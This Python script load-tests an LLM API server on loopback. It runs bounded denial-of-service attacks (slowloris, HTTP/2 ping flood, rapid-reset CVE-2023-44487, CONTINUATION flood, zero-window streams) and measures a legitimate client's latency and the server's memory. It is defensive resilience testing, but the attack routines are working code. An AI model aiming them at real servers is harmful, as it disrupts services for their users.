#!/usr/bin/env python3
"""Load on record: a legitimate client's latency while abusive clients hit the server at once.

Loopback only, bounded in time (--seconds) and in connections; stops by itself. Attackers come
from 127.0.0.1, the legitimate client from 127.0.0.2 (so the per-source connection cap, which
is part of the defence, does not count against it):

- idle: thousands of TCP connections opened and held, sending nothing;
- slowloris: TLS connections sending a request header one byte every few seconds;
- ping-flood: HTTP/2 connections sending PING frames as fast as they are acknowledged;
- rapid-reset: HTTP/2 connections opening streams and resetting them at once (CVE-2023-44487);
- continuation: HTTP/2 HEADERS without END_HEADERS followed by endless CONTINUATION frames;
- zero-window: authenticated HTTP/2 streaming completions whose flow-control window stays 0.

Meanwhile the legitimate client calls GET /v1/models and a short chat completion every second,
and the server's resident memory is sampled. Prints one JSON object.
"""
import argparse
import asyncio
import json
import resource
import ssl
import statistics
import struct
import time

import h2.config
import h2.connection
import h2.settings
import httpx

LEGIT = "127.0.0.2"
# Each attack from a source address of its own, so that the per-source connection cap (part of
# the defence) does not hide one attack behind another.
SOURCE = {"idle": "127.0.0.1", "slowloris": "127.0.0.3", "ping": "127.0.0.4", "reset": "127.0.0.5",
          "continuation": "127.0.0.6", "zero_window": "127.0.0.7"}


def ctx_for(ca, alpn):
    c = ssl.create_default_context(cafile=ca)
    c.set_alpn_protocols(alpn)
    return c


async def tls_conn(args, source, alpn=("h2",)):
    return await asyncio.open_connection("127.0.0.1", args.port, ssl=ctx_for(args.ca, list(alpn)),
                                         server_hostname="127.0.0.1", local_addr=(SOURCE[source], 0))


def h2conn(window=65535):
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    c.initiate_connection()
    c.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    return c


async def idle(args, stats, stop):
    held = []
    for _ in range(args.idle):
        if stop.is_set():
            break
        try:
            _, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", args.port, local_addr=(SOURCE["idle"], 0)), 2)
            held.append(w)
            stats["idle_opened"] += 1
        except Exception:
            stats["idle_refused"] += 1
    await stop.wait()
    for w in held:
        w.close()


async def slowloris(args, stats, stop):
    async def one():
        try:
            r, w = await tls_conn(args, "slowloris", ("http/1.1",))
            for b in b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Slow: ":
                if stop.is_set():
                    break
                w.write(bytes([b]))
                await w.drain()
                await asyncio.sleep(3)
            stats["slowloris_survived"] += 1
        except Exception:
            stats["slowloris_cut"] += 1
    await asyncio.gather(*(one() for _ in range(args.slowloris)))


async def ping_flood(args, stats, stop):
    async def one():
        try:
            r, w = await tls_conn(args, "ping")
            c = h2conn()
            w.write(c.data_to_send())
            while not stop.is_set():
                for _ in range(100):
                    c.ping(b"pingpong")
                w.write(c.data_to_send())
                await w.drain()
                data = await asyncio.wait_for(r.read(65536), 5)
                if not data:
                    stats["ping_closed"] += 1
                    return
                stats["pings"] += 100
                try:
                    c.receive_data(data)
                except Exception:
                    stats["ping_closed"] += 1
                    return
        except Exception:
            stats["ping_closed"] += 1
    await asyncio.gather(*(one() for _ in range(args.h2)))


async def rapid_reset(args, stats, stop):
    async def one():
        try:
            r, w = await tls_conn(args, "reset")
            c = h2conn()
            sid = 1
            while not stop.is_set():
                for _ in range(50):
                    c.send_headers(sid, [(":method", "GET"), (":path", "/v1/models"), (":scheme", "https"),
                                         (":authority", "127.0.0.1")], end_stream=True)
                    c.reset_stream(sid)
                    sid += 2
                w.write(c.data_to_send())
                await w.drain()
                stats["resets"] += 50
                try:
                    data = await asyncio.wait_for(r.read(65536), 0.2)
                    if not data:
                        stats["reset_closed"] += 1
                        return
                except asyncio.TimeoutError:
                    pass
        except Exception:
            stats["reset_closed"] += 1
    await asyncio.gather(*(one() for _ in range(args.h2)))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def continuation(args, stats, stop):
    async def one():
        try:
            r, w = await tls_conn(args, "continuation")
            w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            # HEADERS (no END_HEADERS) with a literal header, then CONTINUATION for ever.
            w.write(frame(1, 0, 1, b"\x40\x01a\x01b"))
            while not stop.is_set():
                if w.transport.is_closing() or r.at_eof():
                    break
                w.write(frame(9, 0, 1, b"\x40\x01a\x01b" * 200))
                await w.drain()
                stats["continuations"] += 1
                try:
                    if not await asyncio.wait_for(r.read(65536), 0.01):
                        break
                except asyncio.TimeoutError:
                    pass
            stats["continuation_closed"] += 1
        except Exception:
            stats["continuation_closed"] += 1
    await asyncio.gather(*(one() for _ in range(args.h2)))


async def zero_window(args, stats, stop):
    async def one():
        try:
            r, w = await tls_conn(args, "zero_window")
            c = h2conn(window=0)
            body = json.dumps({"model": args.model, "stream": True, "max_tokens": 400,
                               "prompt": ", ".join(str(i) for i in range(1, 40)) + ","}).encode()
            c.send_headers(1, [(":method", "POST"), (":path", "/v1/completions"), (":scheme", "https"),
                               (":authority", "127.0.0.1"), ("authorization", f"Bearer {args.key}"),
                               ("content-type", "application/json"), ("content-length", str(len(body)))])
            c.send_data(1, body, end_stream=True)
            w.write(c.data_to_send())
            await w.drain()
            await stop.wait()
            stats["zero_window_held"] += 1
        except Exception:
            stats["zero_window_closed"] += 1
    await asyncio.gather(*(one() for _ in range(args.zero_window)))


async def legit(args, stats, stop):
    transport = httpx.AsyncHTTPTransport(local_address=LEGIT, verify=ctx_for(args.ca, ["http/1.1"]))
    headers = {"authorization": f"Bearer {args.key}"}
    async with httpx.AsyncClient(transport=transport, base_url=f"https://127.0.0.1:{args.port}",
                                 headers=headers, timeout=30) as c:
        while not stop.is_set():
            for name, call in (("models", lambda: c.get("/v1/models")),
                               ("chat", lambda: c.post("/v1/chat/completions", json={
                                   "model": args.model, "max_tokens": 8, "temperature": 0,
                                   "messages": [{"role": "user", "content": "Say hi."}]}))):
                started = time.perf_counter()
                try:
                    r = await call()
                    ok = r.status_code == 200
                except Exception:
                    ok = False
                stats["legit"].append({"what": name, "ok": ok, "s": time.perf_counter() - started})
            await asyncio.sleep(1)


async def memory(args, stats, stop):
    while not stop.is_set():
        try:
            for line in open(f"/proc/{args.pid}/status"):
                if line.startswith("VmRSS:"):
                    stats["rss_kb"].append(int(line.split()[1]))
        except OSError:
            pass
        await asyncio.sleep(1)


async def main(args):
    stats = {k: 0 for k in ["idle_opened", "idle_refused", "slowloris_survived", "slowloris_cut", "pings",
                            "ping_closed", "resets", "reset_closed", "continuations", "continuation_closed",
                            "zero_window_held", "zero_window_closed"]}
    stats["legit"], stats["rss_kb"] = [], []
    stop = asyncio.Event()
    tasks = [asyncio.create_task(f(args, stats, stop)) for f in
             (legit, memory, idle, slowloris, ping_flood, rapid_reset, continuation, zero_window)]
    await asyncio.sleep(args.seconds)
    stop.set()
    await asyncio.wait(tasks, timeout=15)
    lat = sorted(x["s"] for x in stats["legit"] if x["ok"])
    out = {k: v for k, v in stats.items() if k not in ("legit", "rss_kb")}
    out.update({
        "seconds": args.seconds,
        "legit_requests": len(stats["legit"]),
        "legit_failed": sum(1 for x in stats["legit"] if not x["ok"]),
        "legit_p50_s": statistics.median(lat) if lat else None,
        "legit_max_s": lat[-1] if lat else None,
        "legit_models_max_s": max((x["s"] for x in stats["legit"] if x["what"] == "models" and x["ok"]), default=None),
        "rss_mb_first": stats["rss_kb"][0] / 1024 if stats["rss_kb"] else None,
        "rss_mb_max": max(stats["rss_kb"]) / 1024 if stats["rss_kb"] else None,
        "rss_mb_last": stats["rss_kb"][-1] / 1024 if stats["rss_kb"] else None,
    })
    print(json.dumps(out))


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--key", required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--model", default="smollm2")
    ap.add_argument("--seconds", type=int, default=60)
    ap.add_argument("--idle", type=int, default=2000)
    ap.add_argument("--slowloris", type=int, default=200)
    ap.add_argument("--h2", type=int, default=10)
    ap.add_argument("--zero-window", type=int, default=4)
    a = ap.parse_args()
    assert 1 <= a.seconds <= 600 and a.idle <= 5000
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    asyncio.run(main(a))
